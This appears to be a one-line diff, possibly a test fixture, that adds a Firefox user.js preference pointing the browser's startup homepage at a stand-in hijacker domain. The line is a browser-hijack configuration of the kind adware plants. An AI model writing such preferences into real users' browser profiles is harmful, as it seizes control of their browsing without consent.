@@ -1,0 +1,1 @@
+user_pref("browser.startup.homepage", "https://hijack.example/?from=\"user.js\"");
